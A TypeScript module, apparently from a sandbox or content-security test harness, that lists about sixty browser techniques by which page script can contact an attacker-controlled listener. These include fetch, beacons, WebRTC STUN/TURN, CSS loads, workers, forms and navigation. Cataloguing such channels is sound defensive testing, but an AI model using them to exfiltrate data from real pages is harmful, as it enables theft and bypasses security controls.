/** Where an attacker listens: for requests and connections, and for packets. */
export interface Catcher {
  readonly http: string;
  readonly host: string;
  readonly udpPort: number;
}

/** Ways by which a script in a page gets a word out. Each is an expression; how it answers does not matter. */
export function leakChannels({ http, host, udpPort }: Catcher): Readonly<Record<string, string>> {
  const at = (name: string) => JSON.stringify(`${http}/${name}`);
  const element = (tag: string, properties: string) =>
    `document.body.append(Object.assign(document.createElement('${tag}'), { ${properties} }))`;
  const link = (rel: string, more = '') => `document.head.append(Object.assign(document.createElement('link'),
    { rel: '${rel}', href: ${at(`link-${rel}`)}${more} }))`;
  const ws = http.replace('http', 'ws');
  const peer = (servers: string) => `(async () => {
    const peer = new RTCPeerConnection({ iceServers: [${servers}] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 1500));
  })()`;
  const worker = (code: string) =>
    `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(code)}], { type: 'text/javascript' })))`;
  return {
    fetch: `fetch(${at('fetch')})`,
    fetchNoCors: `fetch(${at('fetch-no-cors')}, { mode: 'no-cors', method: 'POST', body: 'x' })`,
    fetchKeepalive: `fetch(${at('fetch-keepalive')}, { keepalive: true, mode: 'no-cors' })`,
    xhr: `(() => { const x = new XMLHttpRequest(); x.open('GET', ${at('xhr')}); x.send(); })()`,
    xhrSync: `(() => { const x = new XMLHttpRequest(); x.open('GET', ${at('xhr-sync')}, false); x.send(); })()`,
    beacon: `navigator.sendBeacon(${at('beacon')}, 'x')`,
    eventSource: `new EventSource(${at('event-source')})`,
    webSocket: `new WebSocket('${ws}/web-socket')`,
    webTransport: `new WebTransport('https://${host}:${udpPort}/').ready`,
    image: `new Image().src = ${at('image')}`,
    srcset: element('img', `srcset: ${at('srcset')} + ' 2x'`),
    audio: `new Audio(${at('audio')}).play()`,
    video: element('video', `src: ${at('video')}, autoplay: true`),
    poster: element('video', `poster: ${at('poster')}`),
    script: element('script', `src: ${at('script')}`),
    moduleScript: element('script', `type: 'module', src: ${at('module')}`),
    dynamicImport: `import(${at('import')})`,
    iframe: element('iframe', `src: ${at('iframe')}`),
    srcdoc: element('iframe', `srcdoc: '<img src=${http}/srcdoc>'`),
    embed: element('embed', `src: ${at('embed')}`),
    object: element('object', `data: ${at('object')}`),
    stylesheet: link('stylesheet'),
    prefetch: link('prefetch'),
    preload: link('preload', `, as: 'image'`),
    modulepreload: link('modulepreload'),
    preconnect: link('preconnect'),
    dnsPrefetch: link('dns-prefetch'),
    icon: link('icon'),
    manifest: link('manifest'),
    prerender: element(
      'script',
      `type: 'speculationrules', textContent: '{"prerender":[{"urls":[' + JSON.stringify(${at('speculation')}) + ']}]}'`,
    ),
    styleImage: `document.body.style.backgroundImage = 'url(' + ${at('style-image')} + ')'`,
    styleSheetImport: `(() => { const s = document.createElement('style'); s.textContent = '@import ' + JSON.stringify(${at('style-import')}); document.head.append(s); })()`,
    cursor: `document.body.style.cursor = 'url(' + ${at('cursor')} + '), auto'`,
    listImage: `document.body.style.listStyleImage = 'url(' + ${at('list-image')} + ')'`,
    mask: `document.body.style.webkitMaskImage = 'url(' + ${at('mask')} + ')'`,
    fontFace: `new FontFace('x', 'url(' + ${at('font')} + ')').load()`,
    svgImage: `document.body.insertAdjacentHTML('beforeend', '<svg><image href="${http}/svg-image"/></svg>')`,
    svgUse: `document.body.insertAdjacentHTML('beforeend', '<svg><use href="${http}/svg-use#x"/></svg>')`,
    markup: `document.body.insertAdjacentHTML('beforeend', '<img src="${http}/markup">')`,
    download: `(() => { const a = document.createElement('a'); a.href = ${at('download')}; a.download = 'x'; document.body.append(a); a.click(); })()`,
    ping: `(() => { const a = document.createElement('a'); a.href = '#x'; a.ping = ${at('ping')}; document.body.append(a); a.click(); })()`,
    worker: worker(`fetch(${at('worker')}, { mode: 'no-cors' })`),
    workerScripts: worker(`importScripts(${at('import-scripts')})`),
    sharedWorker: `new SharedWorker(${at('shared-worker')})`,
    serviceWorker: `navigator.serviceWorker.register(${at('service-worker')})`,
    paymentRequest: `new PaymentRequest([{ supportedMethods: ${at('payment')} }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
    stun: peer(`{ urls: 'stun:${host}:${udpPort}' }`),
    turnUdp: peer(`{ urls: 'turn:${host}:${udpPort}', username: 'secret', credential: 'x' }`),
    turnTcp: peer(`{ urls: 'turn:${host}:${new URL(http).port}?transport=tcp', username: 'secret', credential: 'x' }`),
    frameLocation: `(() => { const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = ${at('frame-location')}; })()`,
    formPost: `(() => { const f = document.createElement('form'); f.action = ${at('form')}; f.method = 'POST'; document.body.append(f); f.submit(); })()`,
    metaRefresh: `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + ${at('refresh')} }))`,
    location: `location.assign(${at('location')})`,
    history: `(() => { history.pushState(0, '', '#y'); location.replace(${at('replace')}); })()`,
    navigationApi: `navigation.navigate(${at('navigation')})`,
    // Last, because it ends an unprotected page under a debugger.
    formTarget: `(() => { const f = document.createElement('form'); f.action = ${at('form-blank')}; f.target = '_blank'; document.body.append(f); f.submit(); })()`,
    windowOpen: `window.open(${at('window')})`,
    windowOpenNoOpener: `window.open(${at('window-noopener')}, '_blank', 'noopener')`,
    middleClick: `(() => { const a = document.createElement('a'); a.href = ${at('middle')}; document.body.append(a); a.dispatchEvent(new MouseEvent('click', { button: 1, ctrlKey: true })); })()`,
  };
}
